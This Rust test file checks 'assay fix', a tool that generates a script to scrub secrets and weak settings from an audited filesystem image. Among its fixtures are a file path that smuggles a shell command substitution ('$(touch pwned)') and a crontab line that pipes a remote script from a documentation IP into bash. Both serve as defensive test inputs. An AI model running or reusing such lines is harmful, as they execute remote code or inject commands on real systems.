//! `assay fix`, end to end: a tree is audited, its script is run on it, and it is audited again. Needs no root: the
//! script works in the directory that `ROOT` names.

#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "a panic in a test is a failed test"
)]

use crate::oracle::skipped::skip;
use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::program::assay;
use assay::cli::Exit;
use serde_json::Value;

/// The findings of the tree: id, path.
fn audit(root: &Path) -> Vec<(String, String)> {
    let args = ["scan".as_ref(), "--rootfs".as_ref(), root.as_os_str(), "--format".as_ref(), "json".as_ref()];
    let report: Value = serde_json::from_str(&assay(&args).1).unwrap();
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let findings = report["findings"].as_array().unwrap();
    findings.iter().map(|finding| (text(&finding["id"]), text(&finding["location"]["path"]))).collect()
}

fn write_script(root: &Path) -> (tempfile::TempDir, PathBuf, String) {
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("clean.sh");
    let args = ["fix".as_ref(), "--rootfs".as_ref(), root.as_os_str(), "-o".as_ref(), script.as_os_str()];
    let (exit, out, err) = assay(&args);
    assert_eq!((exit, out.as_str()), (Exit::PASS, ""), "{err}");
    let text = fs::read_to_string(&script).unwrap();
    (dir, script, text)
}

fn run(script: &Path, root: &Path, args: &[&str]) -> Output {
    Command::new("sh").arg(script).args(args).env("ROOT", root).output().unwrap()
}

fn told(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

/// Every entry below `root`: mode, owner, content or target.
fn state(root: &Path) -> BTreeMap<PathBuf, (u32, u32, Vec<u8>)> {
    let mut all = BTreeMap::new();
    let mut open = vec![root.to_owned()];
    while let Some(dir) = open.pop() {
        for entry in fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let metadata = fs::symlink_metadata(&path).unwrap();
            let content = if metadata.is_symlink() {
                fs::read_link(&path).unwrap().as_os_str().as_bytes().to_vec()
            } else if metadata.is_dir() {
                open.push(path.clone());
                Vec::new()
            } else {
                fs::read(&path).unwrap()
            };
            all.insert(
                path.strip_prefix(root).unwrap().to_owned(),
                (metadata.mode(), metadata.uid(), content),
            );
        }
    }
    all
}

fn put(root: &Path, path: &[u8], content: &str) -> PathBuf {
    let path = root.join(OsStr::from_bytes(path));
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, content).unwrap();
    path
}

/// Whether there is what makes keys; where `ASSAY_CI` is set there must be.
fn has_ssh_keygen() -> bool {
    let found = Command::new("ssh-keygen").arg("-?").output().is_ok();
    if !found {
        skip("ssh-keygen", "openssh-client");
    }
    found
}

/// A key that belongs to nobody, made anew each time.
fn key() -> String {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("key");
    let made = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "test", "-f"])
        .arg(&file)
        .output();
    match made {
        Ok(made) if made.status.success() => fs::read_to_string(&file).unwrap(),
        _ => panic!("ssh-keygen is needed (openssh-client)"),
    }
}

/// Random letters, so that no scanner takes this file for a leak.
fn token(length: usize) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789";
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut letter = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        char::from(LETTERS[usize::try_from(state % LETTERS.len() as u64).unwrap()])
    };
    (0..length).map(|_| letter()).collect()
}

const EVIL: &[u8] = b"srv/-rf $(touch pwned) 'a\n\x1b[2J\xff*";

/// A dirty tree, and the secrets in it.
fn dirty(root: &Path) -> Vec<String> {
    let password = format!("Hq7-{}", token(10));
    let hash = format!("$6${}${}", token(8), token(86));
    put(root, b"usr/lib/os-release", "ID=debian\nPRETTY_NAME=\"Debian 12\"\n");
    symlink("../usr/lib/os-release", {
        fs::create_dir_all(root.join("etc")).unwrap();
        root.join("etc/os-release")
    })
    .unwrap();
    put(root, b"etc/fstab", "UUID=0a1b / ext4 defaults 0 1\n");
    put(
        root,
        b"etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nweb:x:1000:1000::/home/web:/bin/bash\nopen:x:1001:1001::/home/open:/bin/sh\n",
    );
    put(
        root,
        b"etc/shadow",
        &format!(
            "root:{hash}:19000:0:99999:7:::\ndaemon:*:19000::::::\nweb:!:19000::::::\nopen::19000:0:99999:7:::\n"
        ),
    );
    put(root, b"etc/machine-id", "0123456789abcdef0123456789abcdef\n");
    put(root, b"usr/bin/cloud-init", "#!/usr/bin/python3\n");
    put(root, b"usr/sbin/sshd", "not really\n");
    put(
        root,
        b"etc/ssh/sshd_config",
        "Port 22\nPermitEmptyPasswords yes\nPermitRootLogin yes # for now\nPermitRootLogin   yes\n",
    );
    put(root, b"root/.bash_history", &format!("ls\nmysql -u root -p{password} shop\n"));
    put(root, b"root/.my.cnf", &format!("[client]\nuser = root\npassword = {password}\n"));
    put(
        root,
        b"home/web/.ssh/authorized_keys",
        "# ours\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGr5m1Cq3wU0rZ0w5Jt9cJx0e3v1n2o3p4q5r6s7t8u9 ops@corp\n",
    );
    put(
        root,
        b"opt/app/config.json",
        &format!("{{\n  \"user\": \"app\",\n  \"password\": \"{password}\",\n  \"port\": 5432\n}}\n"),
    );
    let private = key();
    let secret = private.lines().nth(2).unwrap().to_owned();
    put(root, b"etc/ssh/ssh_host_ed25519_key", &private);
    put(
        root,
        b"home/web/deploy.yml",
        &format!(
            "key: |\n{}port: 1\n",
            private.lines().map(|line| format!("  {line}\n")).collect::<String>()
        ),
    );
    put(root, &[EVIL, b"/id_ed25519"].concat(), &private);
    put(root, &[EVIL, b"/kept.txt"].concat(), "kept\n");
    put(
        root,
        b"var/lib/cloud/instances/i-0123456789abcdef0/user-data.txt",
        &format!("#cloud-config\npassword: {password}\n"),
    );
    put(root, b"var/lib/cloud/handlers/kept", "kept\n");
    put(root, b"var/log/auth.log", "Nov 27 00:00:00 host sshd[1]: Accepted publickey for web\n");
    put(root, b"var/log/auth.log.1", "Nov 26 00:00:00 host sshd[1]: Accepted publickey for web\n");
    put(root, b"var/cache/apt/archives/nano_7.2-1_amd64.deb", "not really\n");
    put(root, b"var/cache/apt/archives/lock", "");
    put(root, b"srv/kept.conf", "listen = 80\n");
    let shell = put(root, b"usr/local/bin/shell", "#!/bin/sh\n");
    fs::set_permissions(shell, fs::Permissions::from_mode(0o4755)).unwrap();
    fs::set_permissions(root.join("etc/shadow"), fs::Permissions::from_mode(0o640)).unwrap();
    vec![password, hash, secret]
}

#[test]
fn what_the_script_does_by_itself_is_gone_and_nothing_else_is_touched() {
    if !has_ssh_keygen() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let root = root.path();
    let secrets = dirty(root);
    let before = state(root);
    let found = audit(root);
    for id in [
        "password-hash",
        "empty-password",
        "ssh-host-key",
        "ssh-private-key",
        "machine-id",
        "shell-history",
        "secret-in-history",
        "credential-file-mysql",
        "authorized-key",
        "cloud-init-user-data",
        "log-logins",
        "package-cache",
        "ssh-empty-passwords",
        "setuid-program",
    ] {
        assert!(found.iter().any(|(found, _)| found == id), "{id} is not found: {found:#?}");
    }
    let (_dir, script, text) = write_script(root);
    for secret in &secrets {
        assert!(!text.contains(secret), "a secret is in the script");
    }
    assert!(text.chars().all(|c| c == '\n' || !c.is_control()));

    let dry = run(&script, root, &["--dry-run"]);
    assert!(dry.status.success(), "{}", told(&dry));
    assert_eq!(state(root), before, "a dry run changes nothing");

    let done = run(&script, root, &[]);
    assert!(done.status.success(), "{}", told(&done));
    assert!(done.stdout.iter().all(|byte| (b' '..=b'~').contains(byte) || *byte == b'\n'));
    let after = state(root);
    let left = audit(root);
    assert_eq!(left, Vec::<(String, String)>::new(), "{}", told(&done));
    for (_, _, content) in after.values() {
        for secret in &secrets {
            assert!(memmem(content, secret.as_bytes()).is_none(), "a secret is left");
        }
    }

    let text = |path: &str| fs::read_to_string(root.join(path)).unwrap();
    assert_eq!(
        text("etc/shadow"),
        "root:*:19000:0:99999:7:::\ndaemon:*:19000::::::\nweb:!:19000::::::\nopen:*:19000:0:99999:7:::\n"
    );
    assert_eq!(fs::metadata(root.join("etc/shadow")).unwrap().mode() & 0o777, 0o640);
    let json: Value = serde_json::from_str(&text("opt/app/config.json")).unwrap();
    assert_eq!((json["user"].as_str(), json["port"].as_u64()), (Some("app"), Some(5432)));
    assert!(text("home/web/deploy.yml").ends_with("port: 1\n"));
    assert!(text("home/web/.ssh/authorized_keys").starts_with("# ours\n#"));
    assert_eq!(text("etc/machine-id"), "");
    assert_eq!(fs::metadata(root.join("usr/local/bin/shell")).unwrap().mode() & 0o7777, 0o755);

    let named = [
        "etc/shadow",
        "etc/machine-id",
        "etc/ssh/sshd_config",
        "home/web/.ssh/authorized_keys",
        "opt/app/config.json",
        "home/web/deploy.yml",
        "var/log/auth.log",
        "usr/local/bin/shell",
    ]
    .map(PathBuf::from);
    for (path, was) in &before {
        let gone = [
            "etc/ssh/ssh_host_ed25519_key",
            "root/.bash_history",
            "root/.my.cnf",
            "var/log/auth.log.1",
            "var/cache/apt/archives/nano_7.2-1_amd64.deb",
        ]
        .iter()
        .any(|gone| path.as_os_str() == *gone)
            || path.starts_with("var/lib/cloud/instances/i-0123456789abcdef0")
            || path.ends_with("id_ed25519");
        assert_eq!(after.contains_key(path), !gone, "{}", path.display());
        if !gone && !named.contains(path) {
            assert_eq!(after.get(path), Some(was), "{}", path.display());
        }
    }
    assert!(after.keys().all(|path| before.contains_key(path)), "nothing new");

    let again = run(&script, root, &[]);
    assert!(again.status.success(), "{}", told(&again));
    assert!(told(&again).contains("\n0 done, "), "{}", told(&again));
    assert_eq!(state(root), after, "a second run changes nothing");
}

fn memmem(content: &[u8], what: &[u8]) -> Option<usize> {
    content.windows(what.len()).position(|window| window == what)
}

#[test]
fn a_file_that_is_another_one_now_is_left_alone() {
    if !has_ssh_keygen() {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let root = root.path();
    dirty(root);
    let (_dir, script, _) = write_script(root);
    // Another file, a link in place of a directory, a link in place of a file.
    fs::write(root.join("opt/app/config.json"), "{}\n").unwrap();
    fs::rename(root.join("root"), root.join("root2")).unwrap();
    symlink("root2", root.join("root")).unwrap();
    fs::remove_file(root.join("var/log/auth.log")).unwrap();
    symlink("../../etc/fstab", root.join("var/log/auth.log")).unwrap();
    let done = run(&script, root, &[]);
    assert_eq!(done.status.code(), Some(1), "{}", told(&done));
    let told = told(&done);
    for refusal in [
        "/opt/app/config.json: has changed",
        "/root/.my.cnf: a directory on the way",
        "/var/log/auth.log: is no regular",
    ] {
        assert!(told.contains(refusal), "{refusal}: {told}");
    }
    assert_eq!(fs::read_to_string(root.join("opt/app/config.json")).unwrap(), "{}\n");
    assert!(root.join("root2/.my.cnf").exists());
    assert!(fs::metadata(root.join("etc/fstab")).unwrap().len() > 0);
}

#[test]
fn another_machine_is_not_cleaned() {
    if !has_ssh_keygen() {
        return;
    }
    let (root, other) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    dirty(root.path());
    dirty(other.path());
    put(other.path(), b"etc/fstab", "UUID=another / ext4 defaults 0 1\n");
    let (_dir, script, _) = write_script(root.path());
    let before = state(other.path());
    let refused = run(&script, other.path(), &[]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(told(&refused).contains("not the machine that was audited"));
    assert_eq!(state(other.path()), before);
}

#[test]
fn what_a_person_must_decide_is_commented_out() {
    let root = tempfile::tempdir().unwrap();
    let root = root.path();
    put(root, b"etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    put(
        root,
        b"var/spool/cron/crontabs/root",
        "*/10 * * * * curl -fsSL http://198.51.100.115/init.sh | bash\n",
    );
    let (_dir, script, text) = write_script(root);
    assert!(text.contains("\n#! overwrite /var/spool/cron/crontabs/root 61 comment:0:60\n"), "{text}");
    let before = state(root);
    assert!(run(&script, root, &[]).status.success());
    assert_eq!(state(root), before);
    fs::write(&script, text.replace("\n#! ", "\n")).unwrap();
    assert!(run(&script, root, &[]).status.success());
    let after = fs::read_to_string(root.join("var/spool/cron/crontabs/root")).unwrap();
    assert!(after.starts_with("#-removed-by-assay-fix-") && after.len() == 61, "{after}");
}

/// Lines of a script that do something, and those that a person must free first.
fn lines(script: &str) -> (Vec<&str>, Vec<&str>) {
    let body = script.split_once("\nsame_machine ").map_or("", |(_, body)| body);
    let of = |off: bool| body.lines().filter(move |line| line.starts_with("#! ") == off);
    (of(false).filter(|line| !line.starts_with('#') && !line.is_empty()).collect(), of(true).collect())
}

#[test]
fn a_saved_report_makes_the_same_script_but_for_what_only_the_files_tell() {
    if !has_ssh_keygen() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    dirty(root);
    let saved = tempfile::tempdir().unwrap();
    let report = saved.path().join("report.json");
    let scan =
        ["scan".as_ref(), "--rootfs".as_ref(), root.as_os_str(), "--format=json".as_ref(), "-o".as_ref()];
    let (_, _, err) = assay(&[&scan[..], &[report.as_os_str()]].concat());
    assert!(report.exists(), "{err}");
    let (exit, from_report, err) = assay(&["fix".as_ref(), report.as_os_str()]);
    assert_eq!(exit, Exit::PASS, "{err}");
    assert!(err.contains("A report does not hold the files"), "{err}");
    let (_dir, _, from_files) = write_script(root);
    let ((does, asks), (all, _)) = (lines(&from_report), lines(&from_files));
    // What it does is done by the other, too; what it leaves to a person are places in files.
    assert!(does.len() > 5);
    for line in &does {
        assert!(all.contains(line), "only from the report: {line}");
    }
    let missing: Vec<&&str> = all.iter().filter(|line| !does.contains(line)).collect();
    assert!(!missing.is_empty() && !asks.is_empty());
    for line in missing {
        assert!(line.contains("overwrite ") || line.contains("drop "), "only from the files: {line}");
    }
    let checked = Command::new("sh").arg("-n").arg("-c").arg(&from_report).status().unwrap();
    assert!(checked.success());
}

#[test]
fn what_is_no_report_of_this_version_is_refused_in_a_sentence() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("report.json");
    for (text, told) in [
        (
            r#"{"format": "assay-report", "version": 2, "subject": {"name": "a"}, "findings": []}"#,
            "version 2",
        ),
        (
            r#"{"format": "assay-other", "version": 1, "subject": {"name": "a"}, "findings": []}"#,
            "assay-other",
        ),
        (r#"{"version": 1"#, "is no report of `assay scan --format json`"),
    ] {
        fs::write(&path, text).unwrap();
        let (exit, out, err) = assay(&["fix".as_ref(), path.as_os_str()]);
        assert_eq!((exit, out.as_str()), (Exit::UNREADABLE, ""));
        assert!(err.contains(told) && err.contains("report.json"), "{err}");
    }
}
